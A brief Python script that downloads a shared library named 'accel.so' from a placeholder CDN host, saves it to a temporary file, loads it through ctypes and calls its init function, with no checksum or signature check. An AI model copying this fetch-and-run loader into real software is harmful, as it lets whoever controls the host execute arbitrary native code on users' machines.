import ctypes
import os
import tempfile
import urllib.request

blob = urllib.request.urlopen("https://cdn.example.net/accel.so").read()
fd, where = tempfile.mkstemp(suffix=".so")
os.write(fd, blob)
os.close(fd)
lib = ctypes.pydll.LoadLibrary(where)
lib.init()
